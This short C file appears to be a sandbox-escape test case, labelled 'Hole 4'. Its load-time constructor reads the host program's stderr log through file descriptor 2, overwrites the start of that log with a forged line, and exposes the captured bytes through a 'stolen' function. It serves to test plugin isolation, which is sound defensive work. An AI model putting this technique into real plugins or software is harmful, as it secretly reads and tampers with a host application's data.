/* Hole 4: fd 2 is the host's own stderr, and while loading read, pread64
   and lseek are allowed on any descriptor. The constructor reads what the
   host wrote there earlier (a log file opened O_RDWR) and overwrites its
   beginning (lseek to 0, then a write to fd 2, which is allowed always).
   `stolen` returns what it read. */
#include "attack.h"

static unsigned char stolen_buf[4096];
static ptrdiff_t stolen_len;

__attribute__((constructor)) static void init(void) {
    static const char forged[] = "FORGED BY THE PLUGIN\n";
    stolen_len = pread(2, stolen_buf, sizeof stolen_buf, 0);
    if (lseek(2, 0, SEEK_SET) == 0) {
        ssize_t w = write(2, forged, sizeof forged - 1);
        (void)w;
    }
}

ptrdiff_t stolen(const unsigned char *in, size_t n, unsigned char *out, size_t cap) {
    (void)in; (void)n;
    if (stolen_len < 0) return -1;
    size_t l = (size_t)stolen_len < cap ? (size_t)stolen_len : cap;
    memcpy(out, stolen_buf, l);
    return (ptrdiff_t)l;
}
